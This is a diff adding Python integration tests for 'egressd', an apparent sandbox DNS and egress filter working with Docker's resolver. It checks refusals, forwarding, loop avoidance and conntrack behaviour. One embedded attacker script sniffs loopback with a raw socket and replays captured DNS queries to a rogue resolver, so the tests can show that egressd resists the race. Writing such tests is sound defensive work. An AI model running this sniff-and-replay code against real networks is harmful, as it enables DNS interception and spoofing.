+    want = "NOERROR" if phase == "agent" else "REFUSED"
+    for server in (DNS_V4, DNS_V6):
+        for tcp in (False, True):
+            r = lab.dns_query(f"{t}.wild.example.org", server=server, tcp=tcp)
+            assert (r.outcome, r.rcode) == ("ok", want), (server, tcp, r)
+            r = lab.dns_query(f"{t}.denied.example.net", server=server, tcp=tcp)
+            assert (r.outcome, r.rcode) == ("ok", "REFUSED"), (server, tcp, r)
+    if phase == "agent":
+        assert lab.tcp_connect(WILD_V4, 80) == "ok"
+    assert rejected(lab.tcp_connect("198.51.100.11", 80))
+    res = attacker_result(squatter)
+    assert res["received"] == 0, f"the squatter got {res['received']} of the sandbox's queries"
+    # And the next restart, with the squatter gone, moves back to port 53.
+    d.restart()
+    assert lab.dns_query(f"b.{t}.wild.example.org").rcode == want
+    assert "ip_unprivileged_port_start" not in d.log().split("--- ")[-1]
+
+
+# --- Docker's loop --------------------------------------------------------------------------------------
+
+
+def test_docker_resolver_names_and_services_resolve_without_a_loop(lab, egressd):
+    """Allowed names (forwarded by Docker's resolver from inside the namespace, where the redirect
+    brings them back to egressd) and Compose service names (answered by Docker's resolver) resolve;
+    denied names never reach Docker's resolver or the upstream; nothing loops."""
+    serve(lab)
+    docker = DockerResolver(lab, services={"db": "172.18.0.5"})
+    d = docker_egressd(lab, egressd)
+    t = tok()
+    for i, (qtype, tcp) in enumerate((("A", False), ("AAAA", False), ("A", True))):
+        name = f"n{i}.{t}.wild.example.org"
+        r = lab.dns_query(name, qtype, tcp=tcp, timeout=3.0)
+        assert (r.outcome, r.rcode) == ("ok", "NOERROR"), (name, r)
+        assert r.addresses == [WILD_V6 if qtype == "AAAA" else WILD_V4], r
+    assert lab.tcp_connect(WILD_V4, 80) == "ok"
+    assert lab.tcp_connect(WILD_V6, 80) == "ok"
+    r = lab.dns_query("db", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", ["172.18.0.5"]), r
+    assert "172.18.0.5" in learned_set(lab, 4), "an exact name keeps its private answer"
+    r = lab.dns_query(f"{t}.denied.example.net")
+    assert r.rcode == "REFUSED" and r.outcome.elapsed < FAST
+    # Docker forwarded each allowed name once, the upstream saw each once, none loops.
+    assert sorted(e["name"] for e in docker.events("forward", t)) == sorted(
+        f"n{i}.{t}.wild.example.org" for i in range(3))
+    lab.dns.sync()
+    up = [q.name.lower() for q in lab.dns.queries() if t in q.name.lower()]
+    assert sorted(up) == sorted(f"n{i}.{t}.wild.example.org" for i in range(3)), up
+    assert not [e for e in docker.events(token="denied")], "a denied name reached Docker's resolver"
+    st = d.status()["dns"]
+    assert st["relayed"] >= 3 and st["failed"] == 0, st
+    assert "inflight_limit" not in d.log()
+    pinned = events(d, "forwarder_pinned")
+    assert pinned and pinned[-1]["targets"] == [DNS_V4] and pinned[-1]["source"] == "probe", pinned
+
+
+def test_docker_resolver_no_network_refuses_and_forwards_nothing(lab, egressd):
+    serve(lab)
+    docker = DockerResolver(lab, services={"db": "172.18.0.5"})
+    d = docker_egressd(lab, egressd, phase="verifier")
+    t = tok()
+    for name in (f"{t}.wild.example.org", "db", f"{t}.denied.example.net"):
+        for server, tcp in ((DNS_V4, False), (DNS_V6, False), (DNS_V4, True), ("127.0.0.11", False)):
+            r = lab.dns_query(name, server=server, tcp=tcp)
+            assert (r.outcome, r.rcode) == ("ok", "REFUSED"), (name, server, tcp, r)
+    lab.dns.sync()
+    assert not [q for q in lab.dns.queries() if t in q.name.lower()], "the upstream saw a refused name"
+    assert not docker.events("query", t), docker.events()
+    assert not [e for e in docker.events("query") if e["name"] == "db"], docker.events()
+    assert d.status()["dns"]["forwarded"] == 0
+
+
+def test_docker_forwarder_target_survives_a_restart_without_a_probe(lab, egressd):
+    serve(lab)
+    DockerResolver(lab)
+    d = docker_egressd(lab, egressd)
+    assert len(events(d, "forwarder_pinned")) == 1
+    d.restart()
+    labmod.wait_for(lambda: len(events(d, "forwarder_pinned")) == 2, 5.0, "the kept target to be pinned again")
+    again = events(d, "forwarder_pinned")[-1]
+    assert again["source"] == "kernel" and again["targets"] == [DNS_V4], again
+    last_start = d.log().split("--- ")[-1]
+    assert "forwarder_probe" not in last_start, "egressd probed again instead of adopting the kept target"
+    r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+
+
+def test_docker_extservers_in_resolv_conf_pin_the_target(lab, egressd):
+    """Docker >= 25 says where its resolver forwards: `# ExtServers: [...]` in resolv.conf. egressd
+    (run as a process of the namespace, with its resolv.conf, upstream `resolv.conf`) takes the
+    target from there and probes nothing."""
+    serve(lab)
+    DockerResolver(lab)
+    etc = Path("/etc/netns") / lab.sandbox.name
+    etc.mkdir(parents=True, exist_ok=True)
+    try:
+        (etc / "resolv.conf").write_text(
+            "# Generated by Docker Engine.\nnameserver 127.0.0.11\noptions ndots:0\n\n"
+            "# Based on host file: '/etc/resolv.conf' (internal resolver)\n"
+            f"# ExtServers: [{DNS_V4} host(127.0.0.53)]\n# Overrides: []\n")
+        binary = ["ip", "netns", "exec", lab.sandbox.name, str(labmod.egressd_binary())]
+        d = lab.egressd(policy("resolv.conf"), extra=["--log-format", "json"], binary=binary)
+        labmod.wait_for(lambda: events(d, "forwarder_pinned"), 5.0, "the target from resolv.conf")
+        pinned = events(d, "forwarder_pinned")[-1]
+        assert pinned["source"] == "resolv.conf" and pinned["targets"] == [DNS_V4], pinned
+        assert "forwarder_probe" not in d.log()
+        r = lab.dns_query(f"{tok()}.wild.example.org", timeout=3.0)
+        assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+        d.stop()
+    finally:
+        (etc / "resolv.conf").unlink(missing_ok=True)
+        etc.rmdir()
+
+
+# A root process with only NET_RAW sniffs loopback for egressd's query to 127.0.0.11 carrying
+# `token`, and sends a copy of it, byte for byte, to its own resolver ROGUE:53 (the redirect brings
+# it to egressd's proxy, where it matches egressd's in-flight query).
+RACER = textwrap.dedent(r'''
+    import json, socket, sys, time
+    token, rogue, seconds = sys.argv[1].lower().encode(), sys.argv[2], float(sys.argv[3])
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind(("lo", 0))
+    sniff.settimeout(0.05)
+    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    out.settimeout(2)
+    print("READY", flush=True)
+    copies, answers = 0, []
+    seen = set()
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        try:
+            frame = sniff.recv(65535)
+        except socket.timeout:
+            continue
+        pkt = frame[14:]
+        if len(pkt) < 40 or pkt[9] != 17 or pkt[16:20] != socket.inet_aton("127.0.0.11"):
+            continue
+        q = pkt[(pkt[0] & 0xF) * 4 + 8:]
+        if len(q) < 17 or q[2] & 0x80 or token not in q.lower() or q in seen:
+            continue
+        seen.add(q)
+        out.sendto(q, (rogue, 53))
+        copies += 1
+        try:
+            a = out.recv(65535)
+            answers.append(a.hex())
+        except OSError as e:
+            answers.append(str(e))
+    print(json.dumps({"copies": copies, "answers": answers}))
+''')
+ROGUE = "203.0.113.53"
+
+
+def test_a_racing_copy_of_egressds_query_is_relayed_only_to_the_target(lab, egressd):
+    serve(lab)
+    lab.add_servers([FORGED_V4])
+    rogue_log = lab.tmp / "rogue.jsonl"
+    lab.internet.ip("addr", "add", f"{ROGUE}/32", "dev", "lo")
+    rp = lab.spawn([sys.executable, str(HERE / "dnsserver.py"), "record", "--addr", ROGUE, "--port", 53, "--answer", FORGED_V4,
+                    "--log", str(rogue_log)], netns=lab.internet, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                   stderr=subprocess.PIPE)
+    assert labmod._read_line(rp, 10.0, "the rogue resolver").startswith("READY")
+    # Docker's resolver takes 400 ms to forward names starting with "slow": the copy arrives
+    # while egressd's own query is still in flight.
+    DockerResolver(lab, slow={"slow": 400})
+    d = docker_egressd(lab, egressd)
+    t = tok()
+    racer = attacker(lab, RACER, t, ROGUE, 4.0, caps=DOCKER_CAPS)
+    r = lab.dns_query(f"slow.{t}.wild.example.org", timeout=4.0)
+    res = attacker_result(racer)
+    print(f"\nracer: {res['copies']} copies; egressd answered {r.rcode} {r.addresses}")
+    assert res["copies"] >= 1, f"the racer saw no query of egressd's to copy: {res}"
+    assert (r.rcode, r.addresses) == ("NOERROR", [WILD_V4]), r
+    for a in res["answers"]:
+        assert FORGED_V4 not in a and socket.inet_aton(FORGED_V4).hex() not in a, res
+    assert not rogue_log.exists() or t not in rogue_log.read_text(), "egressd relayed the copy to the rogue resolver"
+    assert FORGED_V4 not in learned_set(lab, 4)
+    assert d.status()["dns"]["relayed"] >= 2  # the copy and Docker's forward, both to the target
+
+
+# --- a port per query, and the sandbox's own queries ---------------------------------------------
+
+
+def test_sandbox_queries_work_after_a_burst_of_upstream_queries(lab, egressd):
+    """Every upstream query leaves from a fresh port that goes back to the namespace's ephemeral
+    range once answered. Its conntrack entry must go with it: a sandbox query to the same server
+    (the sandbox asks where egressd asks) that drew such a port would otherwise be the original
+    direction of egressd's old flow, not redirected, and denied (EPERM). With 2000 upstream
+    flows in conntrack, 300 fresh sockets would hit one about 20 times."""
+    serve(lab)
+    egressd(policy(DNS_V4))
+    t = tok()
+    s = lab.sandbox.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    answered = 0
+    with s:
+        s.connect((DNS_V4, 53))
+        s.settimeout(3.0)
+        for batch in range(20):  # 2000 allowed names, 100 in flight at a time
+            for i in range(100):
+                s.send(labmod.dns_build_query(f"b{batch}-{i}.{t}.wild.example.org", "A", batch * 100 + i))
+            for _ in range(100):
+                s.recv(4096)
+                answered += 1
+    assert answered == 2000
+    failures = []
+    for i in range(300):
+        r = lab.dns_query(f"after{i}.{t}.wild.example.org", timeout=2.0)
+        if (r.outcome, r.rcode) != ("ok", "NOERROR"):
+            failures.append(f"{i}: {r.outcome!r} {r.rcode}")
+    assert not failures, f"{len(failures)}/300 sandbox queries failed after the burst:\n" + "\n".join(failures[:10])
